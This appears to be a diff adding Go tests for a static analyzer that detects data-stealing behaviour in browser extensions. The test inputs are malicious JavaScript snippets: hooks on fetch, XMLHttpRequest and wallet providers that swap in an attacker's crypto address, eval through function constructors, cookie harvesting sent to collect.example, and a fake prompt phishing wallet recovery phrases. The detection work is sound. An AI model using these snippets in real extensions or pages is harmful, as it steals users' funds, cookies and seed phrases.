@@ -1,0 +1,134 @@
+package behavior
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+const coin = "0x52908400098527886E0F7030069857D2E4169EE7"
+
+func TestChangedOnTheWay(t *testing.T) {
+	const asked = "wallet_request(https://www.exchange.test/*) > wallet_request"
+	const changed, answer, wallet = "constant_address(" + coin + ") > request_body", "constant_address(" + coin + ") > response_body",
+		"constant_address(" + coin + ") > wallet_request"
+	for _, c := range []flowCase{
+		{"deep in a body", PageWorld, `const f = window.fetch; window.fetch = (u, o) => { const b = JSON.parse(o.body); b.order.legs[0].payee = "` + coin + `"; return f(u, {...o, body: JSON.stringify(b)}) }`, []string{changed}},
+		{"body of a Request", PageWorld, `const f = fetch; window.fetch = async (u, o) => { const b = JSON.parse(o.body); b.to = "` + coin + `"; return f(new Request(u, {...o, body: JSON.stringify(b)})) }`, []string{changed}},
+		{"prototype as a parameter", PageWorld, `(function (p, swap) { const s = p.send; p.send = function (b) { return s.call(this, swap(b)) } })(XMLHttpRequest.prototype, b => b.replace(/0x\w{40}/, "` + coin + `"))`, []string{changed}},
+		{"proxy for fetch", PageWorld, `window.fetch = new Proxy(window.fetch, {apply(f, self, args) { const b = JSON.parse(args[1].body); b.to = "` + coin + `"; args[1].body = JSON.stringify(b); return Reflect.apply(f, self, args) }})`, []string{changed}},
+		{"new Response", PageWorld, `const f = fetch; window.fetch = async (...a) => { const r = await f(...a); const t = await r.text(); return new Response(t.replace(/0x\w{40}/g, "` + coin + `"), r) }`, []string{answer}},
+		{"responseText", PageWorld, `const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { Object.defineProperty(this, "responseText", {get: () => "` + coin + `"}); return s.call(this, b) }`, []string{answer}},
+		{"answers of a filter", Background, `browser.webRequest.onBeforeRequest.addListener(d => { const f = browser.webRequest.filterResponseData(d.requestId); let s = ""; f.ondata = e => { s += new TextDecoder().decode(e.data) }; f.onstop = () => { f.write(new TextEncoder().encode(s.replace(/0x\w{40}/, "` + coin + `"))); f.close() } }, {urls: ["https://*.exchange.test/*"]}, ["blocking"])`, []string{answer}},
+		{"answers left alone", Background, `browser.webRequest.onBeforeRequest.addListener(d => { const f = browser.webRequest.filterResponseData(d.requestId); f.ondata = e => { f.write(e.data) } }, {urls: ["https://*.exchange.test/*"]}, ["blocking"])`, nil},
+		{"provider as a parameter", PageWorld, `function hook(p) { const ask = p.request.bind(p); p.request = q => { q.params[0].to = "` + coin + `"; return ask(q) } } hook(window.ethereum)`, []string{wallet, asked}},
+		{"instruction added", PageWorld, `function hook(p) { const sign = p.signTransaction.bind(p); p.signTransaction = tx => { tx.add(new Step(new Key("` + coin + `"))); return sign(tx) } } window.solana && hook(window.solana)`, []string{wallet, asked}},
+		{"each of a list", PageWorld, `const p = window.solana, all = p.signAllTransactions.bind(p); p.signAllTransactions = l => all(l.map(t => { t.add("` + coin + `"); return t }))`, []string{wallet, asked}},
+		{"proxy for a provider", PageWorld, `window.ethereum = new Proxy(window.ethereum, {get(p, k) { return k === "request" ? q => { q.params[0].to = "` + coin + `"; return p.request(q) } : p[k] }})`, []string{wallet, asked}},
+		{"provider defined", PageWorld, `const real = window.ethereum; Object.defineProperty(window, "ethereum", {value: {request: q => { q.params[0].to = "` + coin + `"; return real.request(q) }}})`, []string{wallet}},
+		{"announced provider", PageWorld, `addEventListener("eip6963:announceProvider", e => { const p = e.detail.provider, ask = p.request; p.request = q => { q.params[0].to = "` + coin + `"; return ask(q) } })`, []string{wallet, asked}},
+	} {
+		t.Run(c.name, c.run)
+	}
+}
+
+func TestConstructorsOfFunctions(t *testing.T) {
+	for _, make := range []string{`(function () {}).constructor`, `(() => {}).constructor`, `(async () => {}).constructor`, `[].filter.constructor`,
+		`[]["filter"]["constructor"]`, `"".sub.constructor`, `[].constructor.constructor`, `setTimeout.constructor`,
+		`Object.getPrototypeOf(async function () {}).constructor`} {
+		flowCase{make, Content, `chrome.storage.local.get("css", s => ` + make + `(s.css)())`, []string{"storage(css) > eval"}}.run(t)
+		flowCase{"kept: " + make, Content, `const paint = ` + make + `; chrome.storage.local.get("css", s => paint("x", s.css)(1))`, []string{"storage(css) > eval"}}.run(t)
+	}
+	flowCase{"of an object", Content, `class A { copy(x) { return new this.constructor(x) } } chrome.storage.local.get("css", s => new A().copy(s.css))`, nil}.run(t)
+}
+
+func TestWorkers(t *testing.T) {
+	const read, sent = `chrome.cookies.getAll({}, l => `, `fetch("https://collect.example/", {body: JSON.stringify(e.data)})`
+	for name, pair := range map[string][2]string{
+		"onmessage":     {`const w = new Worker("calc.js"); ` + read + `w.postMessage({l}))`, `self.onmessage = e => ` + sent},
+		"listener":      {`const w = new Worker("calc.js"); ` + read + `w.postMessage({l}))`, `addEventListener("message", e => ` + sent + `)`},
+		"answer":        {`const w = new Worker("calc.js"); w.onmessage = e => ` + sent, read + `self.postMessage(l))`},
+		"shared worker": {`const w = new SharedWorker("calc.js"); w.port.start(); ` + read + `w.port.postMessage(l))`, `onconnect = c => { const p = c.ports[0]; p.onmessage = e => ` + sent + ` }`},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := analyzeText(t, testUnit(t, "bg.js", Background, pair[0]), testUnit(t, "calc.js", Background, pair[1]))
+			if !slices.Contains(flowTexts(r), cookies) {
+				t.Errorf("flows %v", flowTexts(r))
+			}
+		})
+	}
+}
+
+func TestWordsOfAList(t *testing.T) {
+	for _, c := range []flowCase{
+		{"list of the package", Popup, `let words; async function at(w) { words = words || (await (await fetch(chrome.runtime.getURL("words.txt"))).text()).split("\n"); return words.indexOf(w) }
+			document.getElementById("go").onclick = async () => { const n = await Promise.all(document.getElementById("mnemonic").value.split(" ").map(w => at(w))); fetch("https://collect.example/", {body: n.join()}) }`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
+		{"words beside numbered fields", Content, `const words = []; show(() => h("div", {}, [h("p", "Your session has ended. To go on, enter the Secret Recovery Phrase of your wallet again in these fields."),
+			...[1, 2, 3].map(i => h("input", {placeholder: i + ".", onInput: e => { words[i] = e.target.value }})), h("button", {onClick: () => fetch("https://collect.example/", {body: words.join(" ")})})]))`,
+			[]string{"seed_input(input Your session has ended. To go on, enter the Secret Recovery Phrase of your wallet again in these fields.) > fetch > collect.example"}},
+	} {
+		t.Run(c.name, c.run)
+	}
+}
+
+func TestLimitsOfCookies(t *testing.T) {
+	for query, want := range map[string][2]string{
+		`{url}`: {"url=*", `{"url":"*"}`}, `{domain: d}`: {"domain=*", `{"domain":"*"}`}, `{}`: {"", "{}"}, `{domain: undefined}`: {"", "{}"},
+	} {
+		r := background(t, "bg.js", `chrome.tabs.onActivated.addListener((url, d) => chrome.cookies.getAll(`+query+`, l => fetch("http://127.0.0.1:6800/", {body: l})))`)
+		i := slices.IndexFunc(r.Flows, func(f Flow) bool { return f.Source == "cookies" })
+		if i < 0 || r.Flows[i].From != want[0] {
+			t.Errorf("%s: flows %+v", query, r.Flows)
+		}
+		if i := slices.IndexFunc(r.Calls, func(c Call) bool { return c.API == "cookies.getAll" }); i < 0 || r.Calls[i].Args[0] != want[1] {
+			t.Errorf("%s: calls %+v", query, r.Calls)
+		}
+	}
+}
+
+func TestPlaceOfRequest(t *testing.T) {
+	r := background(t, "bg.js", "async function up(server, jar) {\n  const l = await chrome.cookies.getAll({});\n"+
+		"  await fetch(server + \"/a\", {method: \"PUT\", body: await seal(l)});\n}\nasync function down(server) {\n  await fetch(server + \"/a\");\n}\nup(host()); down(host())")
+	for _, f := range r.Flows {
+		if last := f.Steps[len(f.Steps)-1]; last.Line != 3 || !strings.HasPrefix(last.What, "PUT") {
+			t.Errorf("last step %+v", last)
+		}
+	}
+	if len(r.Flows) == 0 {
+		t.Error("no flow")
+	}
+}
+
+// An address is the user's own only when nothing else than a page of the extension can set it.
+func TestTypedAddresses(t *testing.T) {
+	const options = `const f = document.getElementById("f"); f.onsubmit = () => chrome.storage.local.set({server: f.elements.server.value.replace(/\/$/, "")});`
+	const send = `const conf = () => chrome.storage.local.get(["server", "every"]); async function up() { const {server} = await conf(); const list = await chrome.cookies.getAll({domain: name()});
+		await fetch(server + "/jar", {method: "PUT", body: JSON.stringify(list)}) } chrome.alarms.onAlarm.addListener(up);`
+	for name, c := range map[string]struct {
+		options, background string
+		want                Party
+	}{
+		"typed":              {options, send, User},
+		"typed in before":    {options, `up(); ` + send, User},
+		"default of a thief": {options, send + `chrome.storage.local.set({server: "https://collect.example"})`, "none"},
+		"from a server":      {options, send + `fetch("https://config.example/c").then(r => r.json()).then(c => chrome.storage.local.set({server: c.server}))`, Unknown},
+		"from a site":        {options, send + `chrome.runtime.onMessageExternal.addListener(m => chrome.storage.local.set({server: m.server}))`, Unknown},
+		"pushed":             {options, send + `self.addEventListener("push", e => chrome.storage.local.set({server: e.data.json().server}))`, Unknown},
+		"put into the field": {options + `fetch("https://config.example/c").then(async r => { f.elements.server.value = await r.text() });`, send, Unknown},
+		"another key":        {options, send + `async function other() { const {back} = await chrome.storage.local.get("back"); const list = await chrome.cookies.getAll({domain: name()}); fetch(back, {body: list}) } other()`, Unknown},
+		"nobody asks":        {``, send, Unknown},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := analyzeText(t, testUnit(t, "bg.js", Background, c.background), testUnit(t, "options.js", Popup, c.options))
+			party := Party("none")
+			for _, f := range r.Flows {
+				if f.Source == "cookies" && f.Host == "*" {
+					party = f.Party
+				}
+			}
+			if party != c.want {
+				t.Errorf("party %q, want %q: %v", party, c.want, flowTexts(r))
+			}
+		})
+	}
+}
